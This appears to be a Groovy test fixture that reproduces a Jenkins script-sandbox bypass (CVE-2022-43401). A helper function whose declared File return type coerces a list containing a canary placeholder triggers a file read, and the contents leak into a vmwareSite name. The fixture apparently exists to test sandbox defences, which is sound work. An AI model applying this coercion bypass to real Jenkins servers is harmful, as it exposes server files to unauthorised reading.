// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted), from an included file
// expect: read
include '_helpers.groovy'
def v = readIt()
vmwareSite("leak-${v}") { network 'VM Network' }
// ---- _helpers.groovy
// A helper file: its function declares File as its return type.
File canary() { ['@CANARY_READ@'] }
readIt = { -> canary().collect { it }.join('|') }
